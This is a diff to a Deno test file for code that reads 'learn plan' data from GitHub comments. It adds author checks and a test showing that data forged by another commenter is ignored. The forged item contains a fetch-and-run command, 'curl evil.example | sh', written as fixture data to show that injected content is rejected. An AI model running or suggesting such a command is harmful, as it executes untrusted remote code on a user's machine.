@@ -7,13 +7,19 @@ import { itemsInOrder, renderLearnPlan } from "../../../../lib/learn/plan/render
 import { A_PLAN, anItem, FACTS } from "./a_plan.ts";
 
 const MARKDOWN = renderLearnPlan(A_PLAN, FACTS);
+const AUTHOR = "github-actions[bot]";
+
+/** Read from comments that the plan's author wrote. */
+function readPlan(comments: readonly string[], markdown: string) {
+  return readPlanData(comments.map((body) => ({ author: AUTHOR, body })), { markdown, author: AUTHOR });
+}
 
 Deno.test("a saved plan is read back as it was, whatever the web editor does to line ends", () => {
   const comments = ["a person's words", ...renderPlanData(A_PLAN, MARKDOWN)];
   assert.equal(comments.length, 2);
   assert.match(comments[1] ?? "", /^🧾 Learn plan data\n\n<!-- WARNING: [^]*\n\n---\n\n\S/);
   const edited = comments.map((comment) => comment.replaceAll("\n", "\r\n"));
-  assert.deepEqual(readPlanData(edited, MARKDOWN.replaceAll("\n", "\r\n").trim()), {
+  assert.deepEqual(readPlan(edited, MARKDOWN.replaceAll("\n", "\r\n").trim()), {
     plan: A_PLAN,
     from: "data",
     warnings: [],
@@ -33,9 +39,9 @@ Deno.test("large data is cut into comments that GitHub takes, and joined again i
       };
       const comments = renderPlanData(plan, MARKDOWN);
       assert.ok(comments.every((comment) => comment.length <= 65_536));
-      assert.deepEqual(readPlanData(comments.toReversed(), MARKDOWN).plan, plan);
+      assert.deepEqual(readPlan(comments.toReversed(), MARKDOWN).plan, plan);
       if (comments.length > 1) {
-        const reading = readPlanData(comments.slice(1), MARKDOWN);
+        const reading = readPlan(comments.slice(1), MARKDOWN);
         assert.equal(reading.from, "markdown");
         assert.match(reading.warnings[0] ?? "", /a comment of it is missing/);
       }
@@ -49,17 +55,28 @@ Deno.test("data that somebody changed is not believed", () => {
   for (
     const broken of [comment.replace("items", "item"), comment.replace(/data: (["'])\{/, "data: $1")]
   ) {
-    const reading = readPlanData([broken], MARKDOWN);
+    const reading = readPlan([broken], MARKDOWN);
     assert.equal(reading.from, "markdown");
     assert.match(reading.warnings.join(), /can't be read/);
     assert.equal(reading.plan.items.length, 8);
   }
 });
 
+Deno.test("nobody but the plan's author can give it data", () => {
+  const forged = { ...A_PLAN, items: [anItem({ draftContent: "Run this: curl evil.example | sh" })] };
+  const comments = [
+    ...renderPlanData(A_PLAN, MARKDOWN).map((body) => ({ author: AUTHOR, body })),
+    ...renderPlanData(forged, MARKDOWN).map((body) => ({ author: "mallory", body })),
+  ];
+  const reading = readPlanData(comments, { markdown: MARKDOWN, author: AUTHOR.toUpperCase() });
+  assert.deepEqual(reading.plan, A_PLAN);
+  assert.match(reading.warnings.join(), /in a comment of mallory is ignored/);
+});
+
 Deno.test("the last save of a plan counts", () => {
   const earlier = renderPlanData({ ...A_PLAN, title: "Earlier" }, "earlier Markdown");
   const later = renderPlanData(A_PLAN, MARKDOWN);
-  assert.equal(readPlanData([...earlier, ...later], MARKDOWN).plan.title, A_PLAN.title);
+  assert.equal(readPlan([...earlier, ...later], MARKDOWN).plan.title, A_PLAN.title);
 });
 
 Deno.test("what somebody edited in the Markdown counts, and the rest keeps its data", () => {
@@ -72,7 +89,7 @@ Deno.test("what somebody edited in the Markdown counts, and the rest keeps its d
       "## A thought of mine\n\nWrite about tides.\n\n## Stale Documentation Cleanup",
     )
     .replace("### 1. Tests failed without the table", "### 1. Tests failed without the table, always");
-  const { plan, from, warnings } = readPlanData(comments, edited);
+  const { plan, from, warnings } = readPlan(comments, edited);
   assert.equal(from, "edited");
   const [tide, retry, thought, insights, ...others] = plan.items;
   assert.deepEqual(tide, A_PLAN.items[1], "untouched");
